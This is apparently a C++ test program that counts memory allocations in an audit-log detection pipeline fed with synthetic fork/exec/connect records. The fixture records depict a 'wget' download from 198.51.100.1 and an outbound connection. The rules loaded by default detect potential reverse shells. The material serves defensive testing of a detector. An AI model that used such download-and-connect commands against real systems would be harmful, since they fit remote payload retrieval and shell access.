// SPDX-License-Identifier: Apache-2.0
// How often the record path asks for memory: the same work again and again (a fork, an exec, a
// connection, an end), from the line to the rules, and the calls of operator new in it, once
// everything has found its size. What is left are the nodes of the queues of ends and connections,
// one for some 20 entries. Ends with 1 if there is more than one in a hundred records.
//
// The rules are the two seeds, or those that are named. Before the counting, rules that look back
// an hour have as much pending as they are allowed to (EngineLimits), and exited processes are
// forgotten as fast as new ones come.
//
// Usage: record_path_allocations [RULE|DIR…]
#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

#include <fmt/format.h>

#include "collector/agent/pipeline.hpp"
#include "collector/agent/rule_loader.hpp"
#include "collector/feed/capture.hpp"
#include "tests/counted_new.hpp"

namespace {

using namespace audisp_eql;

// Processes end as soon as they have begun, 50 in a second: 60 s are remembered. A rule has 20,000
// pending sequences at most.
constexpr int kWarmUp = 24'000;
constexpr int kCounted = 2'000;
constexpr std::int64_t kStepNs = 20'000'000;

std::vector<std::string> lines_of(int number) {
    const std::int64_t ns = 1'000'000'000'000 + number * kStepNs;
    const std::int64_t ms = 1'700'000'000'000 + (ns - 1'000'000'000'000) / 1'000'000;
    const int pid = 1000 + number % 20'000;
    const auto stamp = fmt::format("msg=audit({}.{:03}:{}): ", ms / 1000, ms % 1000, number * 2);
    const auto second =
        fmt::format("msg=audit({}.{:03}:{}): ", ms / 1000, ms % 1000, number * 2 + 1);
    const auto call = [&](int syscall, const char* exe) {
        return fmt::format(
            "arch=c000003e syscall={} success=yes exit=0 a0=3 a1=7ffe5e1a1d60 a2=10 a3=8 items=2 "
            "ppid=900 pid={} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 "
            "sgid=1000 fsgid=1000 tty=pts0 ses=3 comm=\"{}\" exe=\"/usr/bin/{}\" key=\"k\"",
            syscall, pid, exe, exe);
    };
    const auto connector = [&](std::int64_t at, const std::string& text) {
        return fmt::format("type=CN_PROC msg=proc({}): {}", ns + at, text);
    };
    const std::string path =
        " inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0";
    return {
        fmt::format("type=CLOCK msg=proc({}): real={}", ns, ms * 1'000'000),
        connector(1000, fmt::format("what=fork cpu=0 seq={} parent_pid=900 parent_tgid=900 pid={} "
                                    "tgid={}",
                                    number, pid, pid)),
        connector(2000, fmt::format("what=exec cpu=0 seq={} pid={} tgid={}", number, pid, pid)),
        "type=SYSCALL " + stamp + call(59, "wget"),
        "type=EXECVE " + stamp + "argc=3 a0=\"wget\" a1=\"-q\" a2=\"http://198.51.100.1/x\"",
        "type=CWD " + stamp + "cwd=\"/home/somebody\"",
        "type=PATH " + stamp + "item=0 name=\"/usr/bin/wget\"" + path,
        "type=PATH " + stamp + "item=1 name=\"/lib64/ld-linux-x86-64.so.2\"" + path,
        "type=PROCTITLE " + stamp + "proctitle=77676574002D71",
        "type=EOE " + stamp,
        "type=SYSCALL " + second + call(42, "wget"),
        "type=SOCKADDR " + second + "saddr=0200115CC63364010000000000000000",
        "type=PROCTITLE " + second + "proctitle=77676574002D71",
        "type=EOE " + second,
        connector(3000, fmt::format("what=exit cpu=0 seq={} pid={} tgid={} exit_code=0 "
                                    "exit_signal=17 parent_pid=900 parent_tgid=900",
                                    number, pid, pid)),
    };
}

}  // namespace

int main(int argc, char** argv) {
    const std::string seeds = RULES_DIR "/potential_reverse_shell_via_suspicious_";
    std::vector<std::string> paths(argv + 1, argv + argc);
    if (paths.empty())
        paths = {seeds + "binary.toml", seeds + "parent_process.toml"};
    const collector::LoadedRules rules = collector::load_rule_set(paths, false, {});
    std::size_t alerts = 0;
    collector::Pipeline pipeline(rules.set, {}, [&](const detect::Alert&) { ++alerts; });
    collector::CaptureReader reader(pipeline);
    std::size_t asked = 0;
    std::size_t records = 0;
    for (int number = 1; number <= kWarmUp + kCounted; ++number) {
        const std::vector<std::string> lines = lines_of(number);
        const std::size_t then = allocations;
        for (const std::string& line : lines)
            reader.line(line);
        if (number > kWarmUp) {
            asked += allocations - then;
            records += lines.size();
        }
    }
    const auto counters = pipeline.counters();
    pipeline.finish();
    std::printf(
        "%zu allocations for %zu records and messages in the steady state: %.4f each "
        "(%llu events, %zu alerts)\n",
        asked, records, static_cast<double>(asked) / static_cast<double>(records),
        static_cast<unsigned long long>(counters.engine.events), alerts);
    return asked * 100 > records ? 1 : 0;
}
